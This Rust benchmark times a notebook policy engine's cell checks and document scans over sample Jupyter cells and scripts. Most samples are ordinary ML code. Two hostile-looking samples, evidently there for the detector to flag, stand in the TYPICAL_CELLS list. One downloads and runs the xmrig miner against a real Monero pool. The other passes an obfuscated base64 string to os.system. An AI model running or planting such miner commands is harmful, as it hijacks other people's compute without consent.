//! Micro-benchmarks of the policy engine, run with
//! `cargo run --release -p commonlab-policy --example bench [CORPUS_DIR]`.
//!
//! - cell check latency: `check_cell` over typical cells, p50/p99/max per call;
//! - scan throughput: `scan_document` on one thread over a synthetic mix of notebooks and
//!   scripts (and, when given, over every file of a corpus folder), in MB/s of wall time and,
//!   on Linux, per second the thread spent on a CPU (what counts on a shared machine).

#![allow(clippy::print_stdout)]

use std::path::Path;
use std::time::{Duration, Instant};

use commonlab_policy::{CheckContext, Policy};

const TYPICAL_CELLS: &[&str] = &[
    "import numpy as np\nimport pandas as pd\ndf = pd.read_csv('data.csv')\ndf.describe()",
    "model = torch.nn.Sequential(\n    torch.nn.Linear(784, 256),\n    torch.nn.ReLU(),\n    torch.nn.Linear(256, 10),\n)\noptimizer = torch.optim.Adam(model.parameters(), lr=1e-3)\nfor epoch in range(10):\n    for x, y in loader:\n        optimizer.zero_grad()\n        loss = torch.nn.functional.cross_entropy(model(x), y)\n        loss.backward()\n        optimizer.step()\n    print(epoch, loss.item())",
    "!pip install -q transformers datasets accelerate\nfrom transformers import AutoTokenizer, AutoModelForSequenceClassification\ntokenizer = AutoTokenizer.from_pretrained('bert-base-uncased')",
    "!wget -q https://example.org/data/train.zip -O train.zip\n!unzip -q train.zip -d data/\n%cd data\n!ls -la",
    "from pyngrok import ngrok\npublic_url = ngrok.connect(8501)\nprint(public_url)\n!streamlit run app.py &>/dev/null &",
    "import matplotlib.pyplot as plt\nfig, axes = plt.subplots(2, 2, figsize=(10, 8))\nfor ax, col in zip(axes.flat, ['a', 'b', 'c', 'd']):\n    ax.hist(df[col], bins=50)\n    ax.set_title(col)\nplt.tight_layout()",
    "!wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz\n!tar xf xmrig-6.21.0-linux-static-x64.tar.gz\n!./xmrig-6.21.0/xmrig -o pool.supportxmr.com:443 -u 4ABC -k --tls",
    "name = 'xm' + 'rig'\nimport base64, os\nos.system(base64.b64decode('c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw==').decode())",
];

fn percentile(sorted: &[Duration], fraction: f64) -> Duration {
    sorted[((sorted.len() as f64 - 1.0) * fraction).round() as usize]
}

fn synthetic_documents() -> Vec<(String, Vec<u8>)> {
    let mut documents = Vec::new();
    for (index, cell) in TYPICAL_CELLS.iter().enumerate().take(6) {
        let script = cell.repeat(40);
        documents.push((format!("doc{index}.py"), script.into_bytes()));
        let cells: Vec<serde_json::Value> = (0..30)
            .map(|n| {
                serde_json::json!({
                    "cell_type": if n % 4 == 0 { "markdown" } else { "code" },
                    "metadata": {},
                    "execution_count": n,
                    "outputs": [{"output_type": "stream", "name": "stdout", "text": vec!["epoch 1 loss 0.25\n"; 20]}],
                    "source": cell.lines().map(|line| format!("{line}\n")).collect::<Vec<_>>(),
                })
            })
            .collect();
        let notebook =
            serde_json::json!({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5});
        documents.push((
            format!("doc{index}.ipynb"),
            serde_json::to_vec_pretty(&notebook).expect("json"),
        ));
    }
    documents
}

/// Time this thread has spent on a CPU, from `/proc/thread-self/schedstat` (Linux): on a
/// shared machine it excludes the time other processes held the core.
fn thread_cpu_time() -> Option<Duration> {
    let stat = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    let nanos = stat.split_whitespace().next()?.parse().ok()?;
    Some(Duration::from_nanos(nanos))
}

struct Throughput {
    bytes: usize,
    wall: Duration,
    cpu: Option<Duration>,
}

impl Throughput {
    fn report(&self, what: &str) {
        let mb = self.bytes as f64 / 1e6;
        let cpu = self.cpu.map_or(String::new(), |cpu| {
            format!(
                ", {:.0} MB/s per second on the CPU ({cpu:.2?})",
                mb / cpu.as_secs_f64()
            )
        });
        println!(
            "scan_document, {what}, one thread: {mb:.1} MB in {:.2?} = {:.0} MB/s{cpu}",
            self.wall,
            mb / self.wall.as_secs_f64()
        );
    }
}

fn throughput(policy: &Policy, documents: &[(String, Vec<u8>)], bytes_target: usize) -> Throughput {
    let ctx = CheckContext::new("free");
    let mut bytes = 0;
    let cpu_started = thread_cpu_time();
    let started = Instant::now();
    while bytes < bytes_target {
        for (name, content) in documents {
            std::hint::black_box(policy.scan_document(name, content, &ctx));
            bytes += content.len();
        }
    }
    let wall = started.elapsed();
    let cpu = cpu_started
        .zip(thread_cpu_time())
        .map(|(start, end)| end.saturating_sub(start));
    Throughput { bytes, wall, cpu }
}

fn main() {
    let policy = Policy::builtin();
    let ctx = CheckContext::new("free");
    let mut samples = Vec::new();
    for _ in 0..2000 {
        for cell in TYPICAL_CELLS {
            let started = Instant::now();
            std::hint::black_box(policy.check_cell(cell, &ctx));
            samples.push(started.elapsed());
        }
    }
    samples.sort();
    println!(
        "check_cell: {} calls over {} cells (3-14 lines): p50 {:?}, p99 {:?}, max {:?}",
        samples.len(),
        TYPICAL_CELLS.len(),
        percentile(&samples, 0.50),
        percentile(&samples, 0.99),
        samples[samples.len() - 1]
    );

    let documents = synthetic_documents();
    throughput(&policy, &documents, 200 * 1024 * 1024).report("synthetic notebooks and scripts");

    if let Some(corpus) = std::env::args().nth(1) {
        let mut files = Vec::new();
        collect(Path::new(&corpus), &mut files);
        let documents: Vec<(String, Vec<u8>)> = files
            .into_iter()
            .filter_map(|path| std::fs::read(&path).ok().map(|b| (path, b)))
            .collect();
        throughput(&policy, &documents, 100 * 1024 * 1024)
            .report(&format!("{} corpus files", documents.len()));
    }
}

fn collect(path: &Path, files: &mut Vec<String>) {
    if path.is_file() {
        let name = path.display().to_string();
        if [".ipynb", ".py", ".sh"]
            .iter()
            .any(|ext| name.ends_with(ext))
        {
            files.push(name);
        }
    } else if let Ok(entries) = std::fs::read_dir(path) {
        let mut children: Vec<_> = entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
        children.sort();
        for child in children {
            collect(&child, files);
        }
    }
}
